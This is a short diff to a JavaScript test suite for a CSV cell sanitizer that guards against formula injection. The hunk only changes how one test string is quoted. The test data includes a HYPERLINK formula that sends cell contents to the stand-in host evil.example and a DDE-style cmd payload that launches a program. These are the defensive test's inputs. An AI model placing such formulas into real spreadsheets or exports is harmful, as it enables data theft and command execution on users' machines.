@@ -10,7 +10,7 @@ import { sanitizeCell } from '../../src/cli/render.js';
 describe('csvCell: formula injection', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
-    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
+    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
     ['-2+3', `'-2+3`],
     ['@SUM(1,2)', `"'@SUM(1,2)"`],
     ['\t=1+1', `'\t=1+1`],
